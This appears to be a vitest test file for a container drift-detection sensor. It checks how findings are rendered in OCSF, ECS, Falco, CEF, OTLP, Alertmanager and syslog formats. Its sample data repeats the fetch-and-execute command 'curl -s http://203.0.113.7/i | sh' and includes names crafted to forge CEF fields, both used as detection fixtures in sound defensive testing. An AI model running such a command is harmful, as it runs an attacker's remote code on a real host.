/** What an analyst needs of a finding is in every format, at the place where the format's document wants it. */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { Finding } from '../../../../sensor/finding/finding.ts';
import { techniqueFacts } from '../../../../sensor/finding/techniques.ts';
import { createFormat, type FormatName, formatNames } from '../../../../sensor/forward/format/format.ts';
import { isFinding } from '../../../../sensor/forward/format/shared.ts';
import { outputsSchema } from '../../../../sensor/forward/options.ts';
import { logRecordOf } from '../../../../sensor/forward/otlp/log-record.ts';
import { Outgoing, type OutputRecord } from '../../../../sensor/forward/output.ts';
import { type MessageOptions, syslogMessage } from '../../../../sensor/forward/syslog/message.ts';
import { alertmanagerBody } from '../../../../sensor/forward/webhook/alertmanager.ts';
import { readCef } from '../support/cef.ts';
import { CEF_KEYS, CEF_LABELLED, ECS_FIELDS } from '../support/field-names.ts';
import { samples } from './samples.ts';

type Json = Record<string, unknown>;

const format = (name: FormatName) => createFormat({ name, ocsfVersion: '1.8.0', version: '1' });
const sample = (name: string): Finding => {
  const finding = samples[name];
  if (finding === undefined) throw new Error(`there is no sample ${name}`);
  return finding;
};
const said = (name: FormatName, finding: Finding) => format(name).value(finding) as Json;
const cefOf = (finding: Finding) => readCef(format('cef').text(finding));

const came = sample('added-in-pod');
const installed = sample('libraries-of-an-installer');
const unverified = sample('unverified-unknown-container');

describe('how it came in, why it is held to be an attack, what to do', () => {
  const steps = came.next_steps ?? [];
  const reasons = came.attack_reasons ?? [];
  const session = "sh (4101): sh -c 'curl -s http://203.0.113.7/i | sh'";

  test('the sample has all of them', () => {
    expect(steps.length).toBeGreaterThanOrEqual(4);
    expect(reasons).toHaveLength(came.attack.length);
  });

  test('OCSF: evidences, attacks of both places, description and remediation', () => {
    const value = said('ocsf', came);
    const [main, entry] = value.evidences as Json[];
    expect(main).toMatchObject({ file: { path: came.file.path }, process: { pid: 4123 } });
    expect(entry).toMatchObject({
      name: 'entry',
      data: { kind: 'exec_session' },
      process: { pid: 4101, name: 'sh', cmd_line: "sh -c 'curl -s http://203.0.113.7/i | sh'" },
    });
    const attacks = [
      { tactic: { uid: 'TA0011', name: 'Command and Control' }, technique: { uid: 'T1105' } },
      {
        tactic: { uid: 'TA0005' },
        technique: { uid: 'T1564', name: 'Hide Artifacts' },
        sub_technique: { uid: 'T1564.001', name: 'Hidden Files and Directories' },
      },
      { tactic: { uid: 'TA0002' }, technique: { uid: 'T1609' } },
    ];
    expect(value).toMatchObject({ attacks, message: came.summary, finding_info: { attacks } });
    expect(value.remediation).toEqual({ desc: steps.join('\n') });
    const { desc } = value.finding_info as { desc: string };
    for (const text of [came.summary, ...reasons]) expect(desc).toContain(text);
  });

  test('ECS: entry leader, threat, and our own lists', () => {
    expect(said('ecs', came)).toMatchObject({
      message: came.summary,
      process: { entry_leader: { pid: 4101, args: came.entry?.args, entry_meta: { type: 'exec_session' } } },
      threat: {
        tactic: { id: ['TA0011', 'TA0005', 'TA0002'], name: ['Command and Control', 'Defense Evasion', 'Execution'] },
        technique: { id: ['T1105', 'T1564', 'T1609'], subtechnique: { id: ['T1564.001'] } },
      },
      drift_sensor: { attack_reasons: reasons, next_steps: steps },
    });
  });

  test.each(['falco', 'flat'] as const)('%s: texts of one line, steps with their numbers', (name) => {
    const value = said(name, came);
    const fields = name === 'falco' ? (value.output_fields as Json) : value;
    const key = (falco: string, flat: string) => fields[name === 'falco' ? falco : flat];
    expect(key('drift.entry', 'entry_kind')).toBe('exec_session');
    expect(key('drift.attack_reasons', 'attack_reasons')).toBe(reasons.join('; '));
    const told = String(key('drift.next_steps', 'next_steps'));
    for (const [at, step] of steps.entries()) expect(told).toContain(`(${at + 1}) ${step}`);
    expect(name === 'falco' ? value.output : value.summary).toContain(came.summary);
    expect(key('drift.entry.process', 'entry_command_line')).toContain("sh -c 'curl -s http://203.0.113.7/i | sh'");
    if (name === 'falco') expect(value.tags).toContain('mitre_command_and_control');
  });

  test('CEF: within its keys, each custom one with its label', () => {
    const { fields } = cefOf(came);
    expect(fields).toMatchObject({
      msg: came.summary,
      reason: reasons.join('; '),
      flexString1: `exec_session: ${session}`,
      flexString1Label: 'entry',
      flexString2Label: 'nextSteps',
      deviceExternalId: 'production/node-1.example',
    });
    for (const step of steps) expect(fields.flexString2).toContain(step);
  });

  test('OTLP: attributes, for those who do not read the body', () => {
    const record = logRecordOf(Outgoing.of(came), format('native'), 0n);
    expect(Object.fromEntries(record.attributes)).toMatchObject({
      'drift_sensor.summary': came.summary,
      'drift_sensor.entry.kind': 'exec_session',
      'drift_sensor.entry.args': came.entry?.args,
      'drift_sensor.attack_reasons': reasons,
      'drift_sensor.next_steps': steps,
    });
  });

  test('Alertmanager: annotations, so that the labels stay the same', () => {
    const context = { format: format('native'), node: 'n', index: undefined };
    const [alert] = JSON.parse(alertmanagerBody([Outgoing.of(came)], context)) as { annotations: Json }[];
    expect(alert?.annotations).toMatchObject({ summary: came.summary, entry: `exec_session: ${session}` });
    expect(alert?.annotations.next_steps).toContain(steps[0]);
  });
});

test('what was folded is said with its number, its files and who ran it', () => {
  const stands = 'It stands for 30 more of 2 files that dpkg (4200) ran.';
  const ocsf = said('ocsf', installed);
  expect(ocsf.message).toContain(stands);
  expect(ocsf.unmapped).toMatchObject({ folded: { count: 30, distinct: 2, by: { name: 'dpkg' } } });
  const folded = (ocsf.evidences as { name: string; file: Json }[]).filter(({ name }) => name === 'folded');
  expect(folded.map(({ file }) => file.path)).toEqual(['/usr/bin/new', '/usr/lib/x, y.so']);
  const ecs = said('ecs', installed);
  expect(ecs).toMatchObject({ drift_sensor: { folded: { count: 30, paths: ['/usr/bin/new', '/usr/lib/x, y.so'] } } });
  expect((ecs.related as { hash: string[] }).hash).toContain('c'.repeat(64));
  expect(said('flat', installed)).toMatchObject({
    folded_count: 30,
    folded_files: '/usr/bin/new, /usr/lib/x, y.so',
  });
  expect(said('falco', installed).output_fields).toMatchObject({ 'drift.folded': 30 });
  expect(cefOf(installed).fields).toMatchObject({ cn2: '30', cn2Label: 'folded', cn3: '2', cnt: '31' });
  for (const name of formatNames.filter((each) => each !== 'native'))
    expect(format(name).text(installed)).toContain(stands);
});

test('a library and the program that mapped it, a script and its interpreter, are told apart', () => {
  const [library] = said('ocsf', installed).evidences as { file: Json; process: { file: Json } & Json }[];
  expect(library).toMatchObject({
    file: { path: '/usr/lib/libdrift.so.1' },
    process: { file: { path: '/sbin/ldconfig' }, loaded_modules: ['/usr/lib/libdrift.so.1'] },
  });
  expect(said('ecs', installed)).toMatchObject({
    dll: { path: '/usr/lib/libdrift.so.1', hash: { sha256: installed.file.sha256 } },
    process: { executable: '/sbin/ldconfig' },
  });
  const script = sample('script-by-cron');
  expect(said('ecs', script)).toMatchObject({
    file: { path: '/dev/shm/.c' },
    process: { executable: '/bin/busybox' },
  });
  expect(said('ecs', script)).not.toHaveProperty('dll');
  expect(cefOf(script).fields).toMatchObject({ fileType: 'script', filePath: '/dev/shm/.c', dproc: '/bin/busybox' });
});

test('what was not verified is not called drift, says why, and is no alert', () => {
  const ocsf = said('ocsf', unverified);
  expect(ocsf).toMatchObject({
    is_alert: false,
    disposition_id: 17,
    finding_info: { title: 'Container code not verified: binary' },
    unmapped: { reason: 'unknown_container' },
  });
  expect(said('ocsf', came)).toMatchObject({ is_alert: true, disposition_id: 19 });
  expect(said('falco', unverified)).toMatchObject({
    rule: 'Container code not verified: binary',
    output_fields: { 'drift.reason': 'unknown_container' },
  });
  expect(cefOf(unverified).fields.reason).toBe('unknown_container');
  expect(said('ecs', unverified)).toMatchObject({ drift_sensor: { reason: 'unknown_container' } });
  expect(said('flat', unverified)).toMatchObject({ reason: 'unknown_container' });
});

test('a technique of another version stands without names', () => {
  expect(techniqueFacts('T9999.001')).toEqual({
    technique: { id: 'T9999' },
    subTechnique: { id: 'T9999.001' },
    tactics: [],
  });
  const other = sample('said-by-another-version');
  expect(said('ecs', other).threat).toEqual({
    framework: 'MITRE ATT&CK',
    technique: { id: ['T9999', 'T9998'], subtechnique: { id: ['T9999.001'] } },
  });
});

test('every field of ECS that is said is one that ECS has, lists where it wants lists', () => {
  for (const finding of Object.values(samples)) {
    const { drift_sensor: _own, ...document } = said('ecs', finding);
    expect(leaves(document).filter((name) => !ECS_FIELDS.has(name))).toEqual([]);
  }
});

test('every field of CEF is of its dictionary and kind, labelled where it must be, and no longer than it may be', () => {
  for (const finding of Object.values(samples)) {
    const { fields } = cefOf(finding);
    const names = Object.keys(fields).filter((name) => !name.endsWith('Label'));
    expect(names.filter((name) => !(name in CEF_KEYS))).toEqual([]);
    expect(names.filter((name) => CEF_KEYS[name] !== 'text' && !/^\d+$/.test(fields[name] ?? ''))).toEqual([]);
    for (const name of Object.keys(CEF_KEYS).filter((key) => CEF_LABELLED.test(key)))
      expect(`${name}Label` in fields).toBe(name in fields);
    for (const value of Object.values(fields)) expect(value.length).toBeLessThanOrEqual(1023);
  }
});

test('what a container put into its names ends no field of CEF and begins none', () => {
  const { header, fields } = cefOf(sample('names-that-would-forge'));
  expect(header).toHaveLength(7);
  expect(fields).toMatchObject({
    flexString1: "exec_session: a\\u{a}b=c (1): '|x=\\\\u{a}' '\\u{202e}'",
    flexString2: '(1) say=this|that\\u{a}',
    reason: 'T1105 x=y|z\\',
  });
  expect(fields.msg).toContain('that d\\u{9b}p=|kg (2) ran.');
});

describe('over syslog, where a message has a bound', () => {
  const options: MessageOptions = { facility: 'local0', appName: 'a', procId: '1', hostname: 'h', maxBytes: 0 };
  const long = `/${'d'.repeat(4000)}`;
  const huge: Finding = {
    ...installed,
    file: { ...installed.file, path: long },
    process: { ...installed.process, exe: long, args: [long], parents: [{ pid: 1, name: 'x', exe: long }] },
  };

  test.each(formatNames)('%s: a finding of any length is shortened until it fits, and never refused', (name) => {
    fc.assert(
      fc.property(fc.integer({ min: 480, max: 9000 }), fc.constantFrom(huge, installed, came), (maxBytes, finding) => {
        const message = syslogMessage(finding as unknown as OutputRecord, format(name), { ...options, maxBytes });
        expect(message.length).toBeLessThanOrEqual(maxBytes);
        expect(message.includes(finding.id)).toBe(true);
      }),
    );
  });

  test.each([
    ['native', 2048],
    ['falco', 2048],
    ['flat', 2048],
    ['ocsf', 4096],
    ['ecs', 4096],
  ] as const)('%s: JSON stays whole JSON in %i bytes, the least that is taken', (name, maxBytes) => {
    const output = { type: 'syslog', address: 'siem.example:514', format: name };
    expect(outputsSchema.safeParse([{ ...output, maxBytes }]).error).toBeUndefined();
    const issues = outputsSchema.safeParse([{ ...output, maxBytes: maxBytes - 1 }]).error?.issues;
    expect(issues).toMatchObject([{ path: [0, 'maxBytes'], message: expect.stringContaining(`${maxBytes}`) }]);
    for (const finding of [huge, ...Object.values(samples)]) {
      const text = syslogMessage(finding as unknown as OutputRecord, format(name), { ...options, maxBytes }).toString();
      const value = JSON.parse(text.slice(text.indexOf('{')));
      expect(JSON.stringify(value)).toContain(finding.id);
      expect(JSON.stringify(value)).toContain(finding.container.id);
    }
  });

  test('one of ordinary length says over UDP, by default 2048 bytes, what happened and how it came in', () => {
    const text = syslogMessage(came as unknown as OutputRecord, format('cef'), { ...options, maxBytes: 2048 });
    const { fields } = readCef(text.toString().replace(/^.*?(?=CEF:0)/, ''));
    expect(fields).toMatchObject({ msg: came.summary, flexString1Label: 'entry', cs6: came.attack.join(',') });
  });

  test('one of ordinary length is whole over TCP and TLS, by default 8192 bytes', () => {
    for (const name of formatNames) {
      const text = syslogMessage(came as unknown as OutputRecord, format(name), { ...options, maxBytes: 8192 });
      expect(text.toString()).toContain('Find who came in');
      expect(text.toString()).not.toContain('shortened');
    }
  });
});

test('a record that had to be made small enough says so in every format of findings', () => {
  const shortened = { ...came, shortened: true, attack: [] } as Finding;
  expect(isFinding(shortened as unknown as OutputRecord)).toBe(true);
  for (const name of ['ocsf', 'ecs', 'falco', 'flat'] as const)
    expect(format(name).text(shortened)).toMatch(/shortened":true/);
});

function leaves(value: Json, prefix = ''): string[] {
  return Object.entries(value).flatMap(([key, each]) => {
    if (Array.isArray(each)) return [`${prefix}${key}[]`];
    return typeof each === 'object' && each !== null ? leaves(each as Json, `${prefix}${key}.`) : [`${prefix}${key}`];
  });
}
